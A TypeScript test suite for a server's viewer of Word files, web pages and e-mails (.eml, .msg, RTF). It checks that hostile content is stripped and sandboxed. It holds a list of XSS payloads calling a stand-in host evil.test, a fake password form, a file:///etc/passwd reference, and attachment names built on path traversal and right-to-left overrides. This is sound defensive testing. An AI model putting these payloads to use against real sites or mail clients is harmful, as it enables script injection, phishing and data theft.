import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { bearer } from '#server/testing/visitor.ts';
import type { FileView } from './contract.ts';
import { attached, eml, msg } from './testing/mails.ts';
import { docx, drawing, encrypted, paragraph, run } from './testing/office.ts';
import type { Office } from './testing/viewing.ts';
import { NOT_SHOWN, opensOffices } from './testing/viewing.ts';

const test = suite<Office>('documents and e-mails');
opensOffices(test);

test('the view of an encrypted file says that it is encrypted', async ({ shows }) => {
  for (const name of ['a.xlsx', 'a.docx', 'a.xlsm'])
    assert.equal(await shows(name, encrypted(name)), { kind: 'locked' }, name);
});

test('a Word document shows its text, tables and pictures', async ({ page }) => {
  const png = Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );
  const body =
    paragraph(run('Notice under section 143(2)', '<w:b/>'), '<w:jc w:val="center"/>') +
    paragraph(run('शर्मा &amp; Sons')) +
    `<w:tbl><w:tr><w:tc>${paragraph(run('PAN'))}</w:tc><w:tc>${paragraph(run('ABCPS1234D'))}</w:tc></w:tr></w:tbl>` +
    paragraph(drawing('r:embed="rId5"'));
  const html = await page(
    'Notice.docx',
    docx(body, { relations: { rId5: ['image', 'media/a.png'] }, media: { 'a.png': png } }),
  );
  assert.match(html, '<p class="center"><strong>Notice under section 143(2)</strong></p>');
  assert.match(html, 'शर्मा &amp; Sons');
  assert.match(html, /<td><p>PAN<\/p><\/td><td><p>ABCPS1234D<\/p><\/td>/);
  assert.match(html, /<img src="data:image\/png;base64,[^"]+" alt="Signature" \/>/);
});

test('a document with external references loads nothing, has no links and reads no file of the server', async ({
  page,
}) => {
  const body = paragraph(
    drawing('r:link="rId1"') +
      drawing('r:embed="rId2"') +
      `<w:hyperlink r:id="rId3">${run('pay here')}</w:hyperlink>`,
  );
  const html = await page(
    'a.docx',
    docx(body, {
      relations: {
        rId1: ['image', 'https://evil.test/track.png'],
        rId2: ['image', 'file:///etc/passwd'],
        rId3: ['hyperlink', 'javascript:alert(1)'],
      },
    }),
  );
  assert.match(html, '<a>pay here</a>');
  assert.not.match(html, /evil|passwd|root:|javascript|<img/i);
});

const HOSTILE = [
  '<script>fetch("//evil.test")</script>',
  '<img src="https://evil.test/a.png" onerror="alert(1)">',
  '<img srcset="//evil.test/b.png 1x" src=x>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<svg onload="alert(1)"><image href="https://evil.test/c.png"/></svg>',
  '<iframe srcdoc="<script>1</script>"></iframe><object data="//evil.test"></object><embed src="//evil.test">',
  '<form action="https://evil.test"><input name="password"><button>Sign in</button></form>',
  '<link rel="stylesheet" href="//evil.test/d.css"><link rel="dns-prefetch" href="//evil.test">',
  '<style>@import "//evil.test/e.css"; body { background: url(//evil.test/f) }</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  '<p style="background:url(https://evil.test/g);color:red;position:fixed;width:expression(alert(1))">Dear Sir</p>',
  String.raw`<p style="background:u\72l(//evil.test/h)">two</p>`,
  '<table background="https://evil.test/i"><tr><td>three</td></tr></table>',
  '<a href="javascript:alert(1)">four</a><a href="https://bank.test/pay" target="_top">five</a>',
  '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>',
  '<video src="//evil.test/v"></video><audio src="//evil.test/w"></audio><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
].join('\n');
const HARMLESS =
  /<(?:script|svg|iframe|object|embed|form|input|link|math|video|audio|base)|evil\.test|\son\w+=|javascript:|href|srcset|url\(|position/i;
/** The body without the head, which this server writes. */
const bodyOf = (html: string) => html.slice(html.indexOf('<body'));

test('a hostile web page or e-mail is reduced to its text, without scripts, remote content or links', async ({
  page,
  get,
  build,
  actor,
}) => {
  const mail = eml(
    ['From: a@b.in', 'Subject: x'],
    [{ head: ['Content-Type: text/html; charset=utf-8'], body: HOSTILE }],
  );
  for (const [name, content] of [
    ['a.html', HOSTILE],
    ['a.eml', mail],
    [
      'a.msg',
      msg({
        subject: 'x',
        from: { name: 'A', address: 'a@b.in' },
        to: [],
        sentAt: '2026-04-01T00:00:00Z',
        html: HOSTILE,
      }),
    ],
  ] as const) {
    const html = bodyOf(await page(name, content));
    assert.not.match(html.replaceAll(/title="[^"]*"/g, ''), HARMLESS, name);
    for (const text of ['Dear Sir', 'color:red', 'three', 'four', 'title="https://bank.test/pay"'])
      assert.match(html, text, name);
  }
  const { id } = await build.file(actor, { name: 'b.html', content: HOSTILE });
  const view = (await (await get(id)).json()) as { data: FileView };
  assert.equal(view.data, { kind: 'document', remote_pictures: 1 });
  const framed = await get(id, 'view/body');
  assert.match(
    framed.headers.get('content-security-policy')!,
    /^sandbox allow-same-origin; default-src 'none'; img-src data:;/,
  );
  assert.match(framed.headers.get('content-security-policy')!, "frame-ancestors 'self'");
  assert.is(framed.headers.get('x-content-type-options'), 'nosniff');
});

test('an e-mail shows who wrote to whom and when, its pictures in place and its attachments for download', async ({
  get,
  build,
  actor,
}) => {
  const picture = Buffer.from('GIF89a');
  const content = eml(
    [
      'From: =?utf-8?B?4KS24KSw4KWN4KSu4KS+?= <sharma@firm.in>',
      'To: "Rao, Asha" <asha@rao.in>, Team: x@y.in, z@y.in;',
      'Cc: ca@rao.in',
      'Subject: Form 16',
      'Date: Wed, 01 Apr 2026 10:00:00 +0530',
    ],
    [
      { head: ['Content-Type: text/html'], body: '<p>See <img src="cid:sign@x"></p>' },
      attached('sign.gif', 'image/gif', picture, ['Content-ID: <sign@x>']),
      attached('Form 16.pdf', 'application/pdf', Buffer.from('%PDF-1.4 the form')),
      { head: ['Content-Type: message/rfc822'], body: 'Subject: inner\r\n\r\nhello' },
    ],
  );
  const { id } = await build.file(actor, { name: 'mail.eml', content });
  const { data } = (await (await get(id)).json()) as { data: FileView };
  assert.equal(data, {
    kind: 'mail',
    subject: 'Form 16',
    from: [{ name: 'शर्मा', address: 'sharma@firm.in' }],
    to: [
      { name: 'Rao, Asha', address: 'asha@rao.in' },
      { name: '', address: 'x@y.in' },
      { name: '', address: 'z@y.in' },
    ],
    cc: [{ name: '', address: 'ca@rao.in' }],
    sent_at: '2026-04-01T04:30:00.000Z',
    attachments: [
      { index: 2, name: 'Form 16.pdf', size: 17 },
      { index: 3, name: 'attachment 3.eml', size: 22 },
    ],
    remote_pictures: 0,
  });
  assert.match(
    await (await get(id, 'view/body')).text(),
    `src="data:image/gif;base64,${picture.toString('base64')}"`,
  );
  const form = await get(id, 'attachments/2');
  assert.is(await form.text(), '%PDF-1.4 the form');
  assert.match(form.headers.get('content-disposition')!, /^attachment; filename="Form 16\.pdf"/);
  assert.match(form.headers.get('content-security-policy')!, /^sandbox/);
  assert.is(form.headers.get('content-type'), 'application/octet-stream');
  for (const beyond of ['attachments/4', 'attachments/0', 'attachments/x'])
    assert.is((await get(id, beyond)).status, 404, beyond);
});

test('a HEAD request for an attachment is no download, and is not in the history', async (office) => {
  const { get, build, actor, base, token, db } = office;
  const form = attached('Form 16.pdf', 'application/pdf', Buffer.from('%PDF-1.4 the form'));
  const { id } = await build.file(actor, { name: 'a.eml', content: eml(['From: a@b.in'], [form]) });
  const downloads = async () => (await db('audit_events').where({ did: 'document.download' })).length;
  const url = `${base}/api/documents/${id}/attachments/1`;
  const head = await fetch(url, { method: 'HEAD', headers: bearer(token) });
  assert.equal([head.status, head.headers.get('content-length')], [200, '17']);
  assert.is(await downloads(), 0);
  assert.is((await get(id, 'attachments/1')).status, 200);
  assert.is(await downloads(), 1);
});

test('an attachment is listed and saved under a valid name, also if its own hides what it is', async ({
  get,
  build,
  actor,
}) => {
  const written = ['Invoice\u202efdp.exe', '../../.bashrc', `${'क'.repeat(300)}.pdf`];
  const forms = written.map((name) =>
    attached(`=?utf-8?B?${Buffer.from(name).toString('base64')}?=`, 'text/plain', Buffer.from('x')),
  );
  const { id } = await build.file(actor, { name: 'a.eml', content: eml(['From: a@b.in'], forms) });
  const { data } = (await (await get(id)).json()) as { data: FileView };
  const names = data.kind === 'mail' ? data.attachments.map(({ name }) => name) : [];
  assert.equal(names, ['Invoice_fdp.exe', '.._.._.bashrc', `${'क'.repeat(251)}.pdf`]);
  const saved = (await get(id, 'attachments/1')).headers.get('content-disposition');
  assert.is(saved, 'attachment; filename=Invoice_fdp.exe');
});

test('an Outlook e-mail (.msg) is shown like any other', async ({ get, build, actor, page }) => {
  const mail = {
    subject: 'Notice u/s 143(2)',
    from: { name: 'Asha Rao', address: 'asha@rao.in' },
    to: [{ name: 'शर्मा', address: 'sharma@firm.in' }],
    sentAt: '2026-04-01T10:00:00.000Z',
  };
  const content = msg({
    ...mail,
    html: '<p>नमस्ते</p>',
    attachments: [{ name: 'Form 16.pdf', content: Buffer.from('form') }],
  });
  const { id } = await build.file(actor, { name: 'mail.msg', content });
  const { data } = (await (await get(id)).json()) as { data: FileView };
  assert.equal(data, {
    kind: 'mail',
    subject: mail.subject,
    from: [mail.from],
    to: mail.to,
    cc: [],
    sent_at: mail.sentAt,
    attachments: [{ index: 1, name: 'Form 16.pdf', size: 4 }],
    remote_pictures: 0,
  });
  assert.is(await (await get(id, 'attachments/1')).text(), 'form');
  assert.match(await page('text.msg', msg({ ...mail, text: 'Dear <Sir>' })), '<pre>Dear &#60;Sir&#62;</pre>');
});

test('an Outlook e-mail stored only as RTF shows the HTML or the text in it', async ({ page, shows }) => {
  const mail = {
    subject: 'x',
    from: { name: 'A', address: 'a@b.in' },
    to: [],
    sentAt: '2026-04-01T00:00:00Z',
  };
  const html = String.raw`{\rtf1\ansi\ansicpg1252\fromhtml1 \deff0{\fonttbl{\f0\fswiss Arial;}}{\*\htmltag64 <p>}\htmlrtf \par \htmlrtf0 Dear {\*\htmltag84 <b>}\htmlrtf {\b \htmlrtf0 Ravi\htmlrtf }\htmlrtf0 {\*\htmltag92 </b>}, caf\'e9{\*\htmltag72 </p>}{\*\htmltag <script>fetch('//evil.test')</script>}}`;
  const shown = await page('html.msg', msg({ ...mail, rtf: html }));
  assert.match(shown, '<p>Dear <b>Ravi</b>, café</p>');
  assert.not.match(shown, /script|evil/);
  const text = String.raw`{\rtf1\ansi\ansicpg1252\fromtext \deff0{\fonttbl{\f0\fswiss Arial;}}Dear <Ravi>\par Regards}`;
  assert.match(
    await page('text.msg', msg({ ...mail, rtf: text })),
    /<pre>Dear &#60;Ravi&#62;\r?\nRegards<\/pre>/,
  );
  const real = String.raw`{\rtf1\ansi{\fonttbl{\f0 Arial;}{\f1 Times;}}{\*\generator Riched20;}\f0\fs20 Dear \b Ravi\b0\par \u8377?5,00,000 caf\'e9\par}`;
  assert.match(await page('real.msg', msg({ ...mail, rtf: real })), '<pre>Dear Ravi\n₹5,00,000 café</pre>');
  assert.is((await shows('none.msg', msg({ ...mail, rtf: 'no RTF' }))).kind, 'mail');
});

test('e-mails attached to e-mails are not opened, and endless nesting is refused', async ({
  shows,
  refuses,
}) => {
  let inner = 'Subject: the last\r\n\r\nhello';
  for (let depth = 0; depth < 50; depth += 1)
    inner = `Subject: ${depth}\r\nContent-Type: message/rfc822\r\n\r\n${inner}`;
  const view = await shows('deep.eml', inner);
  assert.is(view.kind === 'mail' && view.attachments.length, 1);
  let parts = 'text';
  for (let depth = 0; depth < 300; depth += 1)
    parts = `Content-Type: multipart/mixed; boundary="b${depth}"\r\n\r\n--b${depth}\r\n${parts}\r\n--b${depth}--\r\n`;
  assert.is(await refuses('parts.eml', `Subject: x\r\n${parts}`), NOT_SHOWN);
});

test.run();
